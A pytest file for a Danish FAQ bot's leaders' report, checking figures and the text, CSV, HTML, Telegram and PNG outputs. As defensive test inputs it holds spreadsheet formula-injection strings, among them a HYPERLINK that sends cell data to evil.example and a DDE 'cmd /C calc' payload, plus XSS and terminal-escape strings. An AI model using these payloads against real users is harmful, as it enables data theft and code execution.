"""The leaders' report: its figures on a fixture log (worked out by hand below), and every
format it is rendered in (text, Telegram, CSV, HTML, PNG). The HTML in a real browser is in
``test_report_browser.py``."""

from __future__ import annotations

import csv
import io
import itertools
import re
import struct
import unicodedata
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from e2e.fake_telegram import parse_html

from faqbot import report as reporting
from faqbot.kb import Item, KnowledgeBase, SafetyRules, Source, SourceRef
from faqbot.questionlog import QuestionLog
from faqbot.report import (
    Count,
    Report,
    ReportError,
    build_report,
    csv_cell,
    display_text,
    report_csv,
    report_html,
    report_messages,
    report_png,
    report_text,
    shorten,
)
from faqbot.report import wording as w
from faqbot.report.telegram import MAX_MESSAGE_CHARS, pack
from faqbot.settings import KeepText

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)  # a Monday, 13:00 in Copenhagen
DAYS = 14
IDS = ("peer-opgaver", "peer-loen", "peer-tavshedspligt")


def make_kb() -> KnowledgeBase:
    ref = (SourceRef("guide", "Del 1"),)

    def item(id_: str, category: str, question: str, *alternates: str) -> Item:
        return Item(id_, category, question, "Svar.", ref, alternates=alternates)

    return KnowledgeBase(
        directory=Path("."),
        sources=(Source("guide", "Guiden", "Regionen", "2023", "CC BY"),),
        items=(
            item("peer-opgaver", "Rolle og opgaver", "Hvad laver en peer-medarbejder?"),
            item("peer-loen", "Løn og ansættelse", "Hvad får en peer i løn?", "Løn til peers?"),
            item("peer-tavshedspligt", "Rolle og opgaver", "Har en peer tavshedspligt?"),
        ),
        synonyms=(),
        safety=SafetyRules(response="Ring 112.", phrases=()),
    )


class Clock:
    def __init__(self) -> None:
        self.now = NOW

    def __call__(self) -> datetime:
        return self.now


async def open_log(path: Path, clock: Clock, keep_text: KeepText) -> QuestionLog:
    return await QuestionLog.open(
        path, secret=b"s", keep_text=keep_text, retention_days=400, clock=clock
    )


class Asker:
    """Logs questions ``days_ago`` days before NOW, as the bot does."""

    def __init__(self, log: QuestionLog, clock: Clock) -> None:
        self.log, self.clock = log, clock

    def __call__(
        self,
        days_ago: float,
        status: str,
        item_id: str | None = None,
        text: str = "",
        user: int | None = 1,
        *,
        off_topic: bool = False,
        chat_kind: str = "private",
    ) -> str:
        self.clock.now = NOW - timedelta(days=days_ago)
        return self.log.log_question(
            question=text or f"om {item_id}",
            status=status,
            item_id=item_id,
            score=0.5,
            latency_ms=2.0,
            chat_kind=chat_kind,
            user_id=user,
            off_topic=off_topic,
        )

    def pick(self, question_id: str, item_id: str, user: int) -> None:
        self.clock.now += timedelta(minutes=1)
        self.log.log_pick(question_id=question_id, item_id=item_id, user_id=user)

    async def vote(self, question_id: str, user: int, helpful: bool) -> None:
        self.clock.now += timedelta(minutes=1)
        assert await self.log.record_vote(question_id=question_id, user_id=user, helpful=helpful)


async def fill(log: QuestionLog, clock: Clock) -> None:
    """The fixture log; the expected figures in the tests below follow from it."""
    ask = Asker(log, clock)
    # Older than both periods: counted nowhere.
    ask(40, "answered", "peer-opgaver")
    # The period before (26.10.-9.11.): 5 questions from users 1-4.
    earlier = ask(20, "answered", "peer-opgaver", user=1)
    await ask.vote(earlier, 1, True)
    ask(20, "answered", "peer-opgaver", user=2)
    ask(15, "answered", "peer-tavshedspligt", user=1)
    ask(16, "no_match", None, "et gammelt spørgsmål om peers", user=3)
    ask(18, "no_match", None, "Hvor er kantinen?", user=4, off_topic=True)
    # This period, week 46 (from 9.11. 13:00).
    first = ask(13, "answered", "peer-opgaver", user=1)
    await ask.vote(first, 1, False)
    await ask.vote(first, 2, False)
    await ask.vote(first, 3, True)
    ask(13, "answered", "peer-opgaver", user=2)
    ask(12, "answered", "peer-opgaver", user=3)
    tjener = ask(10, "clarify", "peer-loen", "Hvad tjener peers?", user=7)
    ask.pick(tjener, "peer-loen", 7)
    await ask.vote(tjener, 7, True)
    # Week 47 (16.11.-22.11.).
    ask(6, "answered", "peer-loen", user=1)
    ask(6, "answered", "peer-loen", user=4)
    secret = ask(5, "answered", "peer-tavshedspligt", user=5)
    await ask.vote(secret, 5, False)
    known = ask(3, "clarify", "peer-opgaver", "løn til peers", user=8)
    ask.pick(known, "peer-loen", 8)
    ask(2, "clarify", "peer-opgaver", "Kan en peer have nattevagt?", user=9)
    ask(1, "no_match", None, "Må peers tage nattevagter?", user=10)
    ask(1, "no_match", None, "Må vores peer ringe til mig på 12 34 56 78?", user=1)
    ask(4, "no_match", None, "Hvornår åbner kantinen?", user=11, off_topic=True)
    ask(4, "safety", None, "jeg vil ikke leve mere", user=12)
    ask(3, "smalltalk", None, "tak for hjælpen", user=13)
    # The terminal chat (a test channel): left out unless asked for.
    ask(2, "answered", "peer-opgaver", user=None, chat_kind="terminal")
    ask(2, "answered", "peer-opgaver", user=None, chat_kind="terminal")
    ask(2, "no_match", None, "test af terminalen om peers", user=None, chat_kind="terminal")
    # Week 48 (from 23.11.).
    ask(0.5, "no_match", None, "Hvor kan jeg parkere?", user=11, off_topic=True)
    ask(0.25, "no_match", None, "Hvem er @anna_peer?", user=2)
    clock.now = NOW
    await log.flush()


@pytest.fixture
async def log(tmp_path: Path):
    clock = Clock()
    opened = await open_log(tmp_path / "faqbot.sqlite3", clock, KeepText.UNANSWERED)
    await fill(opened, clock)
    yield opened
    await opened.close()


@pytest.fixture
async def fixture_report(log: QuestionLog) -> Report:
    return await build_report(log, days=DAYS, now=NOW, kb=make_kb())


def counts(entries) -> list[tuple[str, int, int]]:
    return [(c.label, c.count, c.previous) for c in entries]


# --------------------------------------------------------------------------------------------
# The figures
# --------------------------------------------------------------------------------------------


async def test_every_question_has_one_outcome_and_they_add_up(fixture_report: Report) -> None:
    assert [(c.key, c.count, c.previous) for c in fixture_report.outcomes] == [
        ("answered", 6, 3),
        ("picked", 2, 0),
        ("gap", 4, 1),
        ("off_topic", 2, 1),
        ("smalltalk", 1, 0),
        ("crisis", 1, 0),
    ]
    assert fixture_report.total == 16 == fixture_report.figure("questions").value
    assert fixture_report.figure("questions").previous == 5


async def test_headline_figures_with_shares_and_colleagues(fixture_report: Report) -> None:
    figures = {f.key: f for f in fixture_report.figures}
    assert (figures["colleagues"].value, figures["colleagues"].previous) == (12, 4)
    answered = figures["answered"]
    assert (answered.value, answered.previous, answered.basis) == (6 / 14, 3 / 5, 14)
    assert (w.figure_value(answered), w.figure_change(answered)) == ("43 %", "-17 point")
    assert w.figure_basis(answered) == "af 14 spørgsmål"
    picked = figures["picked"]
    assert (w.figure_value(picked), w.figure_change(picked)) == ("14 %", "+14 point")
    thumbs = figures["thumbs_up"]
    assert (thumbs.value, thumbs.previous, thumbs.basis) == (2 / 5, 1.0, 5)
    assert (w.figure_value(thumbs), w.figure_change(thumbs)) == ("40 %", "-60 point")
    assert w.figure_basis(thumbs) == "af 5 stemmer"
    for figure in fixture_report.figures:  # a one-line Danish explanation each
        assert figure.explanation and "\n" not in figure.explanation


async def test_concerns_are_named_by_their_question(fixture_report: Report) -> None:
    # Answered directly, or picked among the suggestions (2 picks of peer-loen).
    assert counts(fixture_report.concerns) == [
        ("Hvad får en peer i løn?", 4, 0),
        ("Hvad laver en peer-medarbejder?", 3, 2),
        ("Har en peer tavshedspligt?", 1, 1),
    ]
    assert counts(fixture_report.categories) == [
        ("Rolle og opgaver", 4, 3),
        ("Løn og ansættelse", 4, 0),
    ]


async def test_gaps_are_apart_from_off_topic_and_crisis(fixture_report: Report) -> None:
    gaps = fixture_report.gaps
    assert (gaps.count, gaps.previous, gaps.without_text) == (4, 1, 0)
    assert [(g.count, g.text, g.variants) for g in gaps.groups] == [
        (2, "Kan en peer have nattevagt?", ("Må peers tage nattevagter?",)),
        (1, "Hvem er [bruger]?", ()),  # ties: the latest first
        (1, "Må vores peer ringe til mig på [telefonnr.]?", ()),
    ]
    assert sum(g.count for g in gaps.groups) + gaps.without_text == gaps.count
    # Resolved by a pick, so not a gap; off topic and crisis messages are counted apart.
    assert "Hvad tjener peers?" not in str(gaps)
    off_topic = fixture_report.off_topic
    assert (off_topic.count, off_topic.previous) == (2, 1)
    assert off_topic.examples == ("Hvor kan jeg parkere?", "Hvornår åbner kantinen?")
    assert (fixture_report.crisis.count, fixture_report.crisis.previous) == (1, 0)
    assert "leve mere" not in str(fixture_report)


async def test_downvoted_answers(fixture_report: Report) -> None:
    assert [(v.label, v.down, v.up) for v in fixture_report.downvoted] == [
        ("Hvad laver en peer-medarbejder?", 2, 1),
        ("Har en peer tavshedspligt?", 1, 0),
    ]


async def test_two_weeks_are_day_by_day(fixture_report: Report) -> None:
    trend = fixture_report.trend
    assert trend.unit == "dag"
    totals = [(w.bucket_text(b), b.total) for b in trend.buckets]
    assert totals == [
        ("man 9.11.*", 0),
        ("tir 10.11.", 2),
        ("ons 11.11.", 1),
        ("tor 12.11.", 0),
        ("fre 13.11.", 1),
        ("lør 14.11.", 0),
        ("søn 15.11.", 0),
        ("man 16.11.", 0),
        ("tir 17.11.", 2),
        ("ons 18.11.", 1),
        ("tor 19.11.", 2),
        ("fre 20.11.", 2),
        ("lør 21.11.", 1),
        ("søn 22.11.", 2),
        ("man 23.11.*", 2),
    ]
    assert dict(trend.buckets[-1].counts) == {
        "answered": 0,
        "picked": 0,
        "gap": 1,
        "off_topic": 1,
        "smalltalk": 0,
        "crisis": 0,
    }
    assert sum(b.total for b in trend.buckets) == fixture_report.total


async def test_a_month_is_week_by_week_with_partial_weeks_marked(log: QuestionLog) -> None:
    built = await build_report(log, days=30, now=NOW, kb=make_kb())
    trend = built.trend
    assert trend.unit == "uge"
    rows = [(w.bucket_text(b), b.total, tuple(b.counts.values())) for b in trend.buckets]
    assert rows == [
        ("uge 43 (24.10.–25.10.)*", 0, (0, 0, 0, 0, 0, 0)),
        ("uge 44 (26.10.–1.11.)", 0, (0, 0, 0, 0, 0, 0)),
        ("uge 45 (2.11.–8.11.)", 5, (3, 0, 1, 1, 0, 0)),
        ("uge 46 (9.11.–15.11.)", 4, (3, 1, 0, 0, 0, 0)),
        ("uge 47 (16.11.–22.11.)", 10, (3, 1, 3, 1, 1, 1)),
        ("uge 48 (23.11.–23.11.)*", 2, (0, 0, 1, 1, 0, 0)),
    ]
    assert sum(b.total for b in trend.buckets) == built.total == 21


async def test_the_terminal_chat_counts_only_when_asked(log: QuestionLog) -> None:
    built = await build_report(log, days=DAYS, now=NOW, kb=make_kb(), include_terminal=True)
    assert built.total == 19
    assert counts(built.concerns)[0] == ("Hvad laver en peer-medarbejder?", 5, 2)
    assert built.gaps.count == 5
    assert built.notes == ("Spørgsmål fra terminalchatten (test) er talt med.",)
    assert "Spørgsmål fra terminalchatten (test) er talt med." in report_text(built)


async def test_report_from_a_path_matches_the_open_log(log: QuestionLog, tmp_path: Path) -> None:
    from_log = await build_report(log, days=DAYS, now=NOW, kb=make_kb())
    from_path = await build_report(tmp_path / "faqbot.sqlite3", days=DAYS, now=NOW, kb=make_kb())
    assert from_path == from_log


async def test_without_a_knowledge_base_items_keep_their_id(log: QuestionLog) -> None:
    built = await build_report(log, days=DAYS, now=NOW)
    assert [c.label for c in built.concerns] == ["peer-loen", "peer-opgaver", "peer-tavshedspligt"]
    assert built.categories == () and not built.labelled
    assert "Emner" not in report_text(built)


async def test_an_item_removed_from_the_knowledge_base(log: QuestionLog) -> None:
    kb = make_kb()
    smaller = KnowledgeBase(kb.directory, kb.sources, kb.items[1:], kb.synonyms, kb.safety)
    built = await build_report(log, days=DAYS, now=NOW, kb=smaller)
    assert ("(spørgsmål fjernet fra vidensbasen)", 3, 2) in counts(built.concerns)
    assert ("(kategori ukendt)", 3, 2) in counts(built.categories)


async def test_days_are_bounded_to_what_the_log_holds(tmp_path: Path) -> None:
    clock = Clock()
    log = await open_log(tmp_path / "young.sqlite3", clock, KeepText.ALL)
    try:
        Asker(log, clock)(10, "answered", "peer-opgaver")  # 13.11. 13:00 in Copenhagen
        built = await build_report(log, days=100_000, now=NOW, kb=make_kb())
        unbounded = await build_report(log, days=30, now=NOW, bounded=False)
        empty = await build_report(tmp_path / "young.sqlite3", days=30, now=NOW - timedelta(40))
    finally:
        await log.close()
    assert (built.period.days, built.period.requested_days) == (11, 100_000)
    assert built.period.start == datetime(2026, 11, 12, 12, 0, tzinfo=UTC)
    assert built.notes == ("Loggen går kun 11 dage tilbage, så perioden er 11 dage (ikke 100000).",)
    assert len(report_text(built).splitlines()) < 100
    assert built.total == 1
    labels = [b.label for b in built.trend.buckets]
    assert (labels[0], labels[-1], len(labels)) == ("tor 12.11.", "man 23.11.", 12)
    assert unbounded.period.days == 30 and unbounded.notes == ()
    # Nothing logged before the end of the period: one day, said plainly.
    assert (empty.period.days, empty.total) == (1, 0)
    assert empty.notes == ("Loggen har ingen spørgsmål fra før periodens slutning.",)


async def test_long_periods_are_month_by_month(tmp_path: Path) -> None:
    clock = Clock()
    log = await open_log(tmp_path / "year.sqlite3", clock, KeepText.ALL)
    ask = Asker(log, clock)
    try:
        for days_ago in range(0, 500, 5):
            ask(days_ago, "answered", "peer-opgaver")
        weeks = await build_report(log, days=112, now=NOW)
        months = await build_report(log, days=113, now=NOW)
        year = await build_report(log, days=365, now=NOW)
    finally:
        await log.close()
    assert (weeks.trend.unit, len(weeks.trend.buckets)) == ("uge", 17)
    assert months.trend.unit == "måned"
    labels = [b.label for b in year.trend.buckets]
    assert labels[0] == "nov. 2025" and labels[-1] == "nov. 2026" and len(labels) == 13
    assert [b.partial for b in year.trend.buckets] == [True] + [False] * 11 + [True]
    assert sum(b.total for b in year.trend.buckets) == year.total == 73
    assert w.bucket_text(year.trend.buckets[0]) == "nov. 2025*"


async def test_bad_input_is_a_report_error(tmp_path: Path) -> None:
    with pytest.raises(ReportError, match="no question log"):
        await build_report(tmp_path / "missing.sqlite3", days=7)
    with pytest.raises(ReportError, match="at least 1 day"):
        await build_report(tmp_path / "missing.sqlite3", days=0)


async def test_days_and_weeks_are_danish_local_time(tmp_path: Path) -> None:
    clock = Clock()
    log = await open_log(tmp_path / "local.sqlite3", clock, KeepText.ALL)
    try:
        # Sunday 22 Nov 23:30 UTC (12.5 hours before NOW) is Monday 23 Nov 00:30 in
        # Copenhagen: the new week, that day.
        Asker(log, clock)(12.5 / 24, "no_match", None, "Hvem betaler kantinen for peers?")
        assert clock.now == datetime(2026, 11, 22, 23, 30, tzinfo=UTC)
        built = await build_report(log, days=7, now=NOW, kb=make_kb())
    finally:
        await log.close()
    assert [(b.first_day.isoformat(), b.total) for b in built.trend.buckets][-1] == (
        "2026-11-23",
        1,
    )
    assert w.day_of(built.gaps.groups[0].last_asked) == "23.11.2026"


def test_a_calendar_week_reads_as_one() -> None:
    period = reporting.Period(
        start=datetime(2026, 11, 15, 23, 0, tzinfo=UTC),  # Monday 16.11. 00:00 in Copenhagen
        end=datetime(2026, 11, 22, 23, 0, tzinfo=UTC),
        days=7,
        requested_days=7,
    )
    assert reporting.last_full_week(NOW) == period.end
    assert w.period_text(period) == "uge 47 (16.11.–22.11.2026)"
    assert w.compared_text(period) == "sammenlignet med ugen før"


def test_change_and_percent_words() -> None:
    assert w.change(Count("k", "k", 3, 0)) == "ny"
    assert w.change(Count("k", "k", 3, 1)) == "+2"
    assert w.change(Count("k", "k", 1, 3)) == "-2"
    assert w.change(Count("k", "k", 0, 0)) == "±0"
    assert [w.percent(x) for x in (None, 0.0, 0.004, 0.5, 0.996, 1.0)] == [
        "–",
        "0 %",
        "<1 %",
        "50 %",
        ">99 %",
        "100 %",
    ]


def test_shorten_cuts_at_a_word_with_an_ellipsis() -> None:
    assert shorten("Hvad laver en peer-medarbejder?", 40) == "Hvad laver en peer-medarbejder?"
    assert shorten("Hvad laver en peer-medarbejder om natten?", 25) == "Hvad laver en…"
    assert len(shorten("x" * 100, 10)) == 10


# --------------------------------------------------------------------------------------------
# Safe to show and to open (issue 14, item 4)
# --------------------------------------------------------------------------------------------

HOSTILE = "\x1b[2J\x1b[31mrød\x07 tekst\r=overskrevet\u202eesrevmo\u200b ok\tfane\x00nul\x9bfin"


def test_display_text_drops_every_control_character() -> None:
    shown = display_text(HOSTILE)
    assert shown == "[2J [31mrød tekst =overskrevetesrevmo ok fane nul fin"
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in shown)


def read_csv(text: str) -> list[list[str]]:
    """The report's CSV as Danish Excel reads it: a byte-order mark, semicolons."""
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def assert_no_control_characters(text: str, line_end: str = "\n") -> None:
    for character in text.removeprefix("\ufeff"):
        if character not in line_end:
            assert unicodedata.category(character) not in ("Cc", "Cf", "Zl", "Zp"), repr(text)


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://x","klik")', '\'=HYPERLINK("http://x","klik")'),
        ("+45 bla", "'+45 bla"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("＝1+1", "'＝1+1"),
        ("Hvad tjener en peer?", "Hvad tjener en peer?"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (12.5, 12.5),
    ],
)
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(cell, safe) -> None:
    assert csv_cell(cell) == safe


async def test_every_format_is_safe_with_hostile_questions(tmp_path: Path) -> None:
    clock = Clock()
    log = await open_log(tmp_path / "hostile.sqlite3", clock, KeepText.ALL)
    ask = Asker(log, clock)
    try:
        for n, text in enumerate(
            (
                '=HYPERLINK("http://evil.example/?"&A1,"Klik")',
                "+SUM(1+1)*cmd|' /C calc'!A0",
                "-1+1 peer",
                "@peer hej",
                HOSTILE + " peer",
                '<script>alert("x")</script> & <b>peer</b>',
            )
        ):
            ask(1 + n / 10, "no_match", None, text, user=n)
        ask(1, "answered", '"><img src=x onerror=alert(1)>')
        built = await build_report(log, days=7, now=NOW, kb=make_kb())
    finally:
        await log.close()
    outputs = {
        "text": report_text(built),
        "csv": report_csv(built),
        "html": report_html(built),
        "telegram": "\n".join(report_messages(built)),
    }
    for name, text in outputs.items():
        assert_no_control_characters(text, "\r\n" if name == "csv" else "\n")
    rows = read_csv(outputs["csv"])
    for row in rows:
        for cell in row:
            assert cell.lstrip(" ")[:1] not in set("=+-@\t\r"), row
    texts = [row[1] for row in rows if row[0] == "videnshul"]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Klik")' in texts
    html = outputs["html"]
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    assert "<img" not in html
    for message in report_messages(built):
        parse_html(message)  # Telegram would accept it


# --------------------------------------------------------------------------------------------
# The formats
# --------------------------------------------------------------------------------------------


async def test_text_format(fixture_report: Report) -> None:
    text = report_text(fixture_report)
    lines = text.splitlines()
    assert lines[:2] == [
        "Rapport: hvad kollegerne spørger om",
        "Periode: 9.11.2026–23.11.2026 (14 dage), sammenlignet med de 14 dage før.",
    ]
    for expected in (
        "  Spørgsmål: 16 (før 5, +11)",
        "  Kolleger, der har spurgt: 12 (før 4, +8)",
        "  Besvaret direkte: 43 % af 14 spørgsmål (før 60 %, -17 point)",
        "  Tommel op af stemmerne: 40 % af 5 stemmer (før 100 %, -60 point)",
        "  Videnshul (ikke besvaret)      4   25 %  (før 1, +3)",
        "   1.     4  ny    Hvad får en peer i løn?",
        "   2.     3  +1    Hvad laver en peer-medarbejder?",
        "    2 × Kan en peer have nattevagt?",
        "Videnshuller: 4, samlet i 3 grupper",
        "Uden for emnet: 2 (før 1, +1)",
        "  fx »Hvor kan jeg parkere?«",
        "Krisebeskeder: 1 (før 0, ny)",
        "Til vedligeholdere: faqbot suggest foreslår nye formuleringer og udkast til nye svar "
        "ud fra de samme spørgsmål.",
    ):
        assert expected in lines, expected
    assert "( ny)" not in text
    for item_id in IDS:  # named by their question, never by id, in the leaders' part
        assert item_id not in text
    for private in ("12 34 56 78", "anna_peer", "leve mere", "test af terminalen"):
        assert private not in text
    # Every figure is explained on the line under it.
    for figure in fixture_report.figures:
        index = next(i for i, line in enumerate(lines) if line.startswith(f"  {figure.label}:"))
        assert lines[index + 1] == f"    {figure.explanation}"


async def test_telegram_messages(fixture_report: Report) -> None:
    messages = report_messages(fixture_report, title="Ugerapport")
    visible = "\n".join(parse_html(message) for message in messages)
    assert all(len(message) <= MAX_MESSAGE_CHARS for message in messages)
    assert visible.startswith("Ugerapport: hvad kollegerne spørger om\n9.11.2026–23.11.2026")
    for expected in (
        "• Spørgsmål: 16 (før 5, +11)",
        "• Besvaret direkte: 43 % af 14 spørgsmål (før 60 %, -17 point)",
        "1. Hvad får en peer i løn? – 4 (ny)",
        "Rolle og opgaver: 4 (+1)",
        "Videnshuller: 4, samlet i 3 grupper (før 1, +3)",
        "• 2 × Kan en peer have nattevagt?",
        "Uden for emnet: 2 (før 1, +1)",
        "fx »Hvor kan jeg parkere?«, »Hvornår åbner kantinen?«",
        "Krisebeskeder: 1 (før 0, ny)",
        "• Hvad laver en peer-medarbejder? – 2 👎, 1 👍",
    ):
        assert expected in visible.splitlines(), expected
    for figure in fixture_report.figures:
        assert figure.explanation in visible
    for item_id in IDS:
        assert item_id not in visible
    assert "faqbot suggest" not in visible  # the maintainers' pointer is not the leaders


def test_long_telegram_reports_are_split_between_lines() -> None:
    blocks = ["<b>Overskrift</b>", "\n".join(f"• linje {n} &amp; mere" for n in range(900))]
    messages = pack(blocks)
    assert len(messages) > 2 and all(len(m) <= MAX_MESSAGE_CHARS for m in messages)
    assert "\n".join(messages).count("• linje") == 900
    for message in messages:
        parse_html(message)


async def test_csv_format(fixture_report: Report) -> None:
    table = read_csv(report_csv(fixture_report))
    assert table[0] == list(reporting.CSV_HEADER)
    assert all(len(row) == len(table[0]) for row in table)
    by_section: dict[str, list[list[str]]] = {}
    for row in table[1:]:
        by_section.setdefault(row[0], []).append(row[1:])
    assert by_section["periode"][0][:2] == ["9.11.2026–23.11.2026 (14 dage)", "14"]
    overview = {row[0]: row[1:5] for row in by_section["overblik"]}
    assert overview["Spørgsmål"] == ["16", "5", "11", fixture_report.figures[0].explanation]
    assert overview["Besvaret direkte (%)"][:3] == ["42,9", "60,0", "-17,1"]
    assert ["Videnshul (ikke besvaret)", "4", "1", "3", ""] in by_section["udfald"]
    assert by_section["spørgsmål"][0] == ["Hvad får en peer i løn?", "4", "0", "4", ""]
    assert ["Løn og ansættelse", "4", "0", "4", ""] in by_section["kategori"]
    assert len(by_section["dag"]) == 15 * 6
    assert by_section["videnshul"][0][:2] == ["Kan en peer have nattevagt?", "2"]
    assert by_section["uden_for_emnet"][0][:4] == ["I alt", "2", "1", "1"]
    assert by_section["krisebeskeder"][0][:4] == ["Krisebesked", "1", "0", "1"]
    for item_id in IDS:
        assert item_id not in report_csv(fixture_report)


async def test_html_format_is_self_contained(fixture_report: Report) -> None:
    html = report_html(fixture_report)
    assert "<script" not in html and "src=" not in html and "href=" not in html
    assert html.count("http") == html.count("http://www.w3.org/2000/svg")
    assert '<html lang="da">' in html
    svgs = re.findall(r"<svg [^>]*>", html)
    assert len(svgs) == 2 and all('viewBox="0 0 ' in tag for tag in svgs)
    text = " ".join(re.sub(r"<[^>]+>", " ", html.split("</style>")[1]).split())
    for expected in (
        "Spørgsmål 16 før: 5 (+11)",
        "Besvaret direkte 43 % af 14 spørgsmål · før: 60 % (-17 point)",
        "Hvad får en peer i løn? 4 0 ny",
        "tor 19.11. 0 0 0 1 0 1 2",
        "2 Kan en peer have nattevagt? også: Må peers tage nattevagter? 22.11.2026",
        "Uden for emnet: 2",
        "Krisebeskeder: 1",
    ):
        assert expected in text, expected
    for item_id in IDS:
        assert item_id not in html
    for private in ("12 34 56 78", "anna_peer", "leve mere"):
        assert private not in html


def png_size(data: bytes) -> tuple[int, int]:
    assert data.startswith(b"\x89PNG\r\n\x1a\n")
    assert data[12:16] == b"IHDR"
    return struct.unpack(">II", data[16:24])


async def test_png_format(fixture_report: Report) -> None:
    data = report_png(fixture_report)
    width, height = png_size(data)
    assert width == 1000 and 500 < height < 1200  # within Telegram's photo limits
    assert len(data) > 20_000


async def test_empty_log_renders_in_every_format(tmp_path: Path) -> None:
    log = await QuestionLog.open(
        tmp_path / "empty.sqlite3", secret=b"s", keep_text=KeepText.NONE, retention_days=90
    )
    try:
        built = await build_report(log, days=7, now=NOW, kb=make_kb())
    finally:
        await log.close()
    assert built.total == 0 and built.concerns == () and built.period.days == 1
    assert "  Spørgsmål: 0 (før 0, ±0)" in report_text(built)
    assert "Ingen besvarede spørgsmål i perioden." in report_html(built)
    assert "(ingen i perioden)" in report_messages(built)[0]
    assert built.notes == ("Loggen har ingen spørgsmål fra før periodens slutning.",)
    # 1 day from Sunday 13:00 to Monday 13:00: two (partial) days of five outcomes each.
    assert len(read_csv(report_csv(built))) == 1 + 1 + 5 + 6 + 2 * 6 + 2
    png_size(report_png(built))


@pytest.mark.parametrize("buckets", [1, 2, 17, 60, 121])
def test_trend_chart_geometry_stays_inside_its_viewbox(buckets: int) -> None:
    from faqbot.report.model import Bucket, Trend
    from faqbot.report.svg import WIDTH, text_width, trend_chart

    first = datetime(2016, 1, 1).date()
    trend = Trend(
        "måned",
        tuple(
            Bucket(
                first_day=first,
                last_day=first,
                label=f"sep. {2016 + n // 12}",
                partial=n in (0, buckets - 1),
                counts={
                    "answered": n * 37 % 101,
                    "picked": 3,
                    "gap": 1,
                    "off_topic": 0,
                    "smalltalk": 2,
                    "crisis": 0,
                },
            )
            for n in range(buckets)
        ),
    )
    chart = trend_chart(trend)
    for rect in chart.rects:
        assert rect.x >= 0 and rect.x + rect.width <= WIDTH and rect.y >= 0
        assert rect.y + rect.height <= chart.height
    labels = sorted(
        (t.x - text_width(t.lines[0], t.size) / 2, t.x + text_width(t.lines[0], t.size) / 2)
        for t in chart.texts
        if t.css == "axis" and t.anchor == "middle"
    )
    assert labels and labels[0][0] >= 0 and labels[-1][1] <= WIDTH
    for (_, right), (left, _) in itertools.pairwise(labels):
        assert left >= right, "two x labels touch"


def test_fit_lines_wraps_and_cuts_to_the_width() -> None:
    from faqbot.report.svg import fit_lines, text_width

    question = (
        "Hvordan forbereder vi som ledelse personalegruppen på, at en ny peer-medarbejder "
        "starter i afdelingen efter sommerferien?"
    )
    lines = fit_lines(question, 300)
    assert len(lines) == 2 and lines[1].endswith("…")
    assert all(text_width(line) <= 300 for line in lines)
    assert fit_lines("Hvad er CHIME?", 300) == ("Hvad er CHIME?",)
    word = fit_lines("Arbejdsmiljøorganisationsrepræsentantsuppleantvalgperioden", 150)
    assert len(word) == 1 and word[0].endswith("…") and text_width(word[0]) <= 150
    assert question.startswith(lines[0])


# --------------------------------------------------------------------------------------------
# Where the off-topic mark comes from: the matcher, stored by the chat and the bot
# --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def real_matcher():
    from faqbot import kb as kb_module
    from faqbot.matcher import Matcher

    return Matcher(kb_module.load(Path(__file__).resolve().parent.parent / "knowledge"))


@pytest.mark.parametrize(
    ("question", "off_topic"),
    [
        ("Hvornår åbner kantinen?", True),  # names no subject word
        ("Min printer virker ikke", True),
        ("Kan vores peer få en firmabil?", False),  # about a peer: a gap, not off topic
    ],
)
def test_the_matcher_tells_off_topic_from_gaps(real_matcher, question: str, off_topic: bool):
    result = real_matcher.match(question)
    assert (result.status.value, result.off_topic) == ("no_match", off_topic)


async def test_the_terminal_chat_logs_its_channel_and_the_off_topic_mark(
    real_matcher, tmp_path: Path
) -> None:
    from faqbot.chat import ChatSession

    log = await QuestionLog.open(
        tmp_path / "chat.sqlite3", secret=b"s", keep_text=KeepText.ALL, retention_days=90
    )
    try:
        session = ChatSession(real_matcher, log_question=log.log_question)
        session.reply("Hvornår åbner kantinen?")
        session.reply("Kan vores peer få en firmabil?")
        default = await build_report(log, days=1)
        with_terminal = await build_report(log, days=1, include_terminal=True)
    finally:
        await log.close()
    assert default.total == 0
    assert (with_terminal.off_topic.count, with_terminal.gaps.count) == (1, 1)
    assert with_terminal.gaps.groups[0].text == "Kan vores peer få en firmabil?"
